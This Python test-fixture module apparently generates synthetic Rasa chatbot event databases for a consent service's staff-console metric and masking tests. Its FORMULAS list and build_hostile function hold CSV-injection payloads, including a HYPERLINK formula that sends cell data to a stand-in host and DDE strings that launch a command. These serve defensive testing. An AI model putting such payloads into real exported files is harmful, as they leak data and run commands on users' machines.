"""A generated Rasa tracker store (the `events` table of Rasa's SQLTrackerStore) with known counts.

Used by the staff console's metric tests and its browser test. The console no longer reads this
table: the same events, as Rasa's event broker publishes them (`published`), go through the
consumer of the consent service (`build_broker`, `feed`) into its own tables. Standard library
only at import (`feed` imports the consent service when called, in .venv-backend).
"""

from __future__ import annotations

import datetime as dt
import json
import sqlite3
from pathlib import Path
from zoneinfo import ZoneInfo

JST = ZoneInfo("Asia/Tokyo")
SCHEMA = """CREATE TABLE events (
  id INTEGER NOT NULL PRIMARY KEY, sender_id VARCHAR(255) NOT NULL, type_name VARCHAR(255) NOT NULL,
  timestamp FLOAT, intent_name VARCHAR(255), action_name VARCHAR(255), data TEXT)"""
DAY1, DAY2 = dt.date(2026, 11, 20), dt.date(2026, 11, 21)

# What the generated store holds, for exact assertions.
EXPECTED = {
    # (day, channel): (conversations, residents)
    "per_day": {
        (DAY1, "LINE"): (6, 6),
        (DAY1, "web"): (2, 2),
        (DAY2, "LINE"): (3, 2),  # one LINE resident comes back in a second session
        (DAY2, "REST"): (1, 1),
    },
    "intents": {
        "ask_info_bank": 8,
        "greet": 6,
        "nlu_fallback": 4,
        "give_consent": 3,
        "thank": 2,
        "goodbye": 1,
    },
    "fallback_day1": (17, 2),  # (messages, fallbacks)
    "fallback_day2": (7, 2),
    "funnel_level2_line": {"explained": 3, "asked": 3, "consulted": 2, "not_yet": 1, "recorded": 2},
}
UNANSWERED = [
    "血圧が150なんだけど大丈夫？",
    "血圧が160だけど大丈夫かな",
    "山田太郎の電話番号は047-123-4567",
    "ふなっしーは好き？",
]


class _Writer:
    def __init__(self, db: sqlite3.Connection) -> None:
        self.db, self.next_id = db, 1

    def add(self, sender: str, kind: str, at: dt.datetime, data: dict, intent=None, action=None):
        self.db.execute(
            "INSERT INTO events VALUES (?, ?, ?, ?, ?, ?, ?)",
            (self.next_id, sender, kind, at.timestamp(), intent, action,
             json.dumps({"event": kind, **data}, ensure_ascii=False)),
        )  # fmt: skip
        self.next_id += 1

    def session(self, sender: str, at: dt.datetime) -> None:
        self.add(
            sender, "action", at, {"name": "action_session_start"}, action="action_session_start"
        )
        self.add(sender, "session_started", at, {})

    def user(self, sender: str, at: dt.datetime, text: str, intent: str, channel: str) -> None:
        parse = {"intent": {"name": intent, "confidence": 0.9}, "entities": [], "text": text}
        self.add(sender, "user", at, {"text": text, "parse_data": parse, "input_channel": channel},
                 intent=intent)  # fmt: skip

    def bot(self, sender: str, at: dt.datetime, response: str, text: str = "…") -> None:
        self.add(sender, "bot", at, {"text": text, "metadata": {"utter_action": response}})

    def slot(self, sender: str, at: dt.datetime, name: str, value: str) -> None:
        self.add(sender, "slot", at, {"name": name, "value": value}, action=name)


def build(path: Path) -> Path:
    """Write the store to `path` and return it."""
    db = sqlite3.connect(path)
    db.execute(SCHEMA)
    w = _Writer(db)
    t1 = dt.datetime.combine(DAY1, dt.time(10), JST)
    t2 = dt.datetime.combine(DAY2, dt.time(10), JST)
    # day 1, LINE: six residents greet and ask what an information bank is
    for i in range(6):
        sender = f"line-{i}"
        w.session(sender, t1)
        w.user(sender, t1, "こんにちは", "greet", "line")
        w.user(sender, t1, "情報銀行って何？", "ask_info_bank", "line")
    # three of them go through a level-2 consent: two consulted (recorded), one not yet
    for i, answer in enumerate(["consulted", "consulted", "not_yet"]):
        sender = f"line-{i}"
        w.user(sender, t1, "同意したい", "give_consent", "line")
        w.bot(sender, t1, "utter_consent_offer_explanation_level2")
        w.bot(sender, t1, "utter_ask_family_doctor")
        w.slot(sender, t1, "family_doctor_consulted", answer)
        if answer == "consulted":
            w.bot(sender, t1, "utter_consent_recorded")
    # day 1, web: two residents, misunderstood
    for i, text in enumerate(UNANSWERED[:2]):
        sender = f"web-{i}"
        w.session(sender, t1)
        w.user(sender, t1, text, "nlu_fallback", "webchat")
    # day 2, LINE: line-0 returns (new session) twice more; one more misunderstood question
    for n in range(2):
        w.session("line-0", t2 + dt.timedelta(hours=n))
        w.user("line-0", t2 + dt.timedelta(hours=n), "情報銀行？", "ask_info_bank", "line")
    w.session("line-9", t2)
    w.user("line-9", t2, UNANSWERED[2], "nlu_fallback", "line")
    w.user("line-9", t2, "さようなら", "goodbye", "line")
    # day 2, REST
    w.session("rest-0", t2)
    w.user("rest-0", t2, UNANSWERED[3], "nlu_fallback", "rest")
    w.user("rest-0", t2, "ありがとう", "thank", "rest")
    w.user("rest-0", t2, "ありがとう", "thank", "rest")
    # before the range: must not be counted
    old = t1 - dt.timedelta(days=40)
    w.session("old-0", old)
    w.user("old-0", old, "こんにちは", "greet", "line")
    db.commit()
    db.close()
    return path


# Residents' texts that a spreadsheet would run as formulas (CSV injection).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"詳しくはこちら")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝１＋１",
    "＋１＋１",
    "－１＋１",
    "＠ＳＵＭ（１）",
    "　=1+1",
]


def build_hostile(path: Path, day: dt.date = DAY1) -> Path:
    """A store whose misunderstood messages (and one intent name) start like formulas."""
    db = sqlite3.connect(path)
    db.execute(SCHEMA)
    w = _Writer(db)
    at = dt.datetime.combine(day, dt.time(10), JST)
    for i, text in enumerate(FORMULAS):
        # six senders each, so that every group is large and shown
        for j in range(6):
            sender = f"hostile-{i}-{j}"
            w.session(sender, at)
            w.user(sender, at, text, "nlu_fallback", "line")
    for j in range(6):
        w.session(f"named-{j}", at)
        w.user(f"named-{j}", at, "こんにちは", "=cmd|' /C calc'!A0", "line")
    db.commit()
    db.close()
    return path


# ---- generated data with its ground truth (for the disclosure test) -----------------------

RANDOM_FIRST_DAY = dt.date(2026, 11, 2)  # a Monday: three whole weeks to 22 November
RANDOM_CHANNELS = {"line": "LINE", "webchat": "web", "rest": "REST"}
RANDOM_INTENTS = [
    ("ask_info_bank", 30), ("greet", 25), ("ask_data_levels", 12), ("nlu_fallback", 10),
    ("ask_benefits", 6), ("thank", 6), ("give_consent", 5), ("goodbye", 3), ("ask_security", 2),
]  # fmt: skip


def build_random(path: Path, seed: int = 12, days: int = 21) -> tuple[Path, list[dict]]:
    """A store of random conversations over `days` days from RANDOM_FIRST_DAY, with many small
    and some large counts, and the truth: per conversation its day, channel, messages (day,
    intent) and funnel outcome per level (explained, asked, answer, recorded, withdrawn)."""
    import random

    rng = random.Random(seed)  # noqa: S311 (test data, not a secret)
    db = sqlite3.connect(path)
    db.execute(SCHEMA)
    w = _Writer(db)
    truth: list[dict] = []
    names, weights = zip(*RANDOM_INTENTS, strict=True)
    for d in range(days):
        day = RANDOM_FIRST_DAY + dt.timedelta(days=d)
        for raw, channel in RANDOM_CHANNELS.items():
            spread = {
                "line": [0, 1, 2, 3, 5, 7, 9],
                "webchat": [0, 0, 1, 2, 3, 6],
                "rest": [0, 0, 1],
            }
            for n in range(rng.choice(spread[raw])):
                sender = f"{raw}-{d}-{n}"
                at = dt.datetime.combine(day, dt.time(9 + n % 10, n), JST)
                w.session(sender, at)
                messages = []
                for _ in range(rng.choice([1, 1, 2, 3])):
                    intent = rng.choices(names, weights)[0]
                    w.user(sender, at, "テスト", intent, raw)
                    messages.append((day, intent))
                outcomes: dict[int, tuple] = {}
                if rng.random() < 0.35:  # a level-2 consent conversation
                    w.user(sender, at, "同意したい", "give_consent", raw)
                    messages.append((day, "give_consent"))
                    w.bot(sender, at, "utter_consent_offer_explanation_level2")
                    asked = rng.random() < 0.8
                    answer = None
                    recorded = False
                    if asked:
                        w.bot(sender, at, "utter_ask_family_doctor")
                        answer = rng.choice(["consulted", "consulted", "not_yet", "will_not", None])
                        if answer:
                            w.slot(sender, at, "family_doctor_consulted", answer)
                        if answer == "consulted" and rng.random() < 0.9:
                            w.bot(sender, at, "utter_consent_recorded")
                            recorded = True
                    outcomes[2] = (True, asked, answer, recorded, False)
                elif rng.random() < 0.2:  # level 1
                    w.bot(sender, at, "utter_consent_offer_explanation")
                    recorded = rng.random() < 0.5
                    if recorded:
                        w.bot(sender, at, "utter_consent_recorded")
                    withdrawn = rng.random() < 0.2
                    if withdrawn:
                        w.bot(sender, at, "utter_withdraw_done")
                    outcomes[1] = (True, False, None, recorded, withdrawn)
                truth.append({"day": day, "channel": channel, "messages": messages,
                              "outcomes": outcomes})  # fmt: skip
    db.commit()
    db.close()
    return path, truth


# ---- the same events as Rasa's event broker publishes them ---------------------------------

BROKER_SCHEMA = """CREATE TABLE IF NOT EXISTS events (
  id INTEGER NOT NULL PRIMARY KEY, sender_id VARCHAR(255), data TEXT)"""


def published(tracker: Path) -> list[dict]:
    """The events of a generated tracker store as Rasa publishes them, in the store's order.

    Rasa's tracker store hands each new event to the broker as `{"sender_id": ..., **as_dict}`;
    a user message always carries the channel's message id (here one per row).
    """
    db = sqlite3.connect(tracker)
    try:
        rows = db.execute(
            "SELECT id, sender_id, timestamp, data FROM events ORDER BY id"
        ).fetchall()
    finally:
        db.close()
    events = []
    for row_id, sender, timestamp, data in rows:
        event = {"sender_id": sender, **json.loads(data), "timestamp": timestamp}
        if event["event"] == "user":
            event["message_id"] = f"m{row_id}"
        events.append(event)
    return events


def build_broker(path: Path, events: list[dict]) -> Path:
    """Append `events` to the table of Rasa's SQL event broker (`SQLEventBroker`) at `path`."""
    db = sqlite3.connect(path)
    db.execute(BROKER_SCHEMA)
    db.executemany(
        "INSERT INTO events (sender_id, data) VALUES (?, ?)",
        [(e["sender_id"], json.dumps(e)) for e in events],
    )
    db.commit()
    db.close()
    return path


def feed(engine, tracker: Path, hide=None) -> int:  # type: ignore[no-untyped-def]
    """Run the generated store's events through the consent service's consumer into `engine`.

    The events go the way `make run` sends them: into a SQL event broker table, read by the
    consumer's SQL source (`consent_service.analytics.consumer.sql_step`) until it is drained.

    Args:
        engine: The consent database (migrated).
        tracker: A generated tracker store (`build`, `build_hostile`, `build_random`).
        hide: The masking function (default: the patterns, without GiNZA).

    Returns:
        How many events the consumer read.
    """
    from consent_service.analytics import consumer
    from consent_service.db import make_sessionmaker
    from consent_service.staff.masking import mask

    broker_path = tracker.with_name(tracker.stem + "-broker.db")
    broker_path.unlink(missing_ok=True)
    build_broker(broker_path, published(tracker))
    broker = consumer.broker_engine(f"sqlite+pysqlite:///{broker_path}")
    factory = make_sessionmaker(engine)
    read = 0
    try:
        while step := consumer.sql_step(broker, factory, hide or mask):
            read += step
    finally:
        broker.dispose()
    return read
